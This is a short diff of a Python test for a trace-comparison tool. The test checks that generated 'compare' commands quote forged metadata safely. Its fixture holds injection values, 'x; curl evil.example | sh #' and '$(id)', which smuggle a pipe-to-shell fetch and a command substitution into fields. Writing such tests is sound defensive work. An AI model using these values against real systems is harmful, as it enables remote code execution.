@@ -166,9 +166,8 @@ def test_low_precision(tmp_path: Path) -> None:
     assert finding.confidence is Confidence.LOW
     assert finding.check == "gemma-trace compare --set dtype=float32,bfloat16 --set device=cpu"
     forged = products("float32")
-    forged.metadata(
-        replace(METADATA, config=METADATA.config | {"model": "x; curl evil.example | sh #", "dtype": "$(id)"})
-    )
+    config = METADATA.config | {"model": "x; curl evil.example | sh #", "dtype": "$(id)"}
+    forged.metadata(replace(METADATA, run=replace(METADATA.run, dtype="float32"), config=config))
     words = shlex.split(one(forged, tmp_path, "low_precision").check)
     settings = ["--set", "dtype=$(id),bfloat16", "--set", "model=x; curl evil.example | sh #", "--set", "device=cpu"]
     assert words == ["gemma-trace", "compare", *settings], "a trace puts nothing into a shell"
